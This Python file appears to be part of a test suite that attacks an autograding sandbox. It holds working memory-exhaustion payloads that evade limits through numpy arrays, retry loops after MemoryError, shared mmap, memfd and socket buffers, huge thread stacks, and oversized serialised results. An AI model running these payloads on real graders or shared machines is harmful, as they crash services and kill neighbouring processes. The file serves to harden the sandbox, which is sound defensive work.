"""Attacks on memory: more of it than there is, from where limits do not look."""

from __future__ import annotations

from attackers.attack import attack, code, in_every_answer, in_one_answer
from attackers.processes import TOKENIZE


@attack(harmful=True, earns={"tokenize": 3})
def array_of_8_gb():
    """8 GB of numpy that are written to: no memory limit at all in nbgrader (grading.md §3, a09;
    nbgrader #1429: a student's list ate the memory)."""
    return [
        TOKENIZE,
        code("""
        import numpy as np

        def top_k_words(reviews, banned, k):
            return int(np.ones(2**30)[0])

        def merge_top_k(shards, k):
            parts = [np.ones(2**24) for _ in range(64)]
            return len(parts)
        """),
    ]


@attack(harmful=True, earns={"tokenize": 3})
def list_of_8_gb():
    """A list that grows, and keeps growing after each MemoryError, with many small objects that
    leave no room to handle the error in."""
    return [
        TOKENIZE,
        code("""
        KEPT = []

        def top_k_words(reviews, banned, k):
            while True:
                try:
                    KEPT.append([0] * 2**20)
                except MemoryError:
                    try:
                        while True:
                            KEPT.append([])
                    except MemoryError:
                        continue

        def merge_top_k(shards, k):
            return list(range(10**9))
        """),
    ]


@attack(harmful=True)
def shared_maps():
    """Shared anonymous memory is not counted by RLIMIT_DATA: 3 GB under a limit of 1 (grading.md §4,
    9). The processes beside it die when the machine has none left."""
    return in_every_answer("""
        import mmap
        kept = globals().setdefault("KEPT_MAPS", [])
        try:
            while True:
                kept.append(mmap.mmap(-1, 2**28, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))
                for page in range(0, 2**28, 4096):
                    kept[-1][page] = 1
                if len(kept) > 32:
                    loot = "8 GB shared"
                    break
        except (OSError, ValueError, MemoryError):
            pass
    """)


@attack(harmful=True)
def memory_files():
    """memfd files take memory without being mapped, so that no limit of the address space sees them;
    so do pipes and sockets whose buffers are filled."""
    return in_every_answer("""
        import os, socket
        kept = globals().setdefault("KEPT_FILES", [])
        try:
            kept.append(os.memfd_create("flood"))
            for _ in range(8192):
                os.write(kept[-1], b"x" * 2**20)
            loot = "8 GB in a memfd"
        except (OSError, AttributeError):
            pass
        try:
            for _ in range(100_000):
                here, there = socket.socketpair()
                kept += [here, there]
                here.setblocking(False)
                here.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
                here.send(b"x" * 2**20)
        except OSError:
            pass
    """)


@attack(harmful=True)
def memory_of_threads():
    """Stacks of threads, 512 MB each; a thousand threads that each hold a little."""
    return in_every_answer("""
        import threading
        threading.stack_size(2**29)
        lock = threading.Event()
        try:
            for _ in range(1000):
                threading.Thread(target=lock.wait, daemon=True).start()
            loot = "a thousand threads"
        except (RuntimeError, ValueError, MemoryError):
            pass
    """)


@attack(harmful=True)
def result_too_large_to_send():
    """A result small in memory and huge when it is written down: one row seen a hundred thousand
    times, one text of 1 GB, a list that holds the same list ten million times."""
    return [
        code("""
        def tokenize(review):
            return "x" * 2**30

        def top_k_words(reviews, banned, k):
            words = ["word"] * 1000
            return [words] * 10**7

        def merge_top_k(shards, k):
            value = ["x"]
            for _ in range(15):
                value = [value] * 10
            return value
        """)
    ]


@attack(harmful=True, slow=True)
def texts_just_below_the_cap():
    """Results of 60 MB on every case: each fits into a frame, but the judge, the journal and the page
    would hold and show hundreds of them."""
    return in_one_answer("""loot = ["\\U0001f600" * 5_000_000]""")
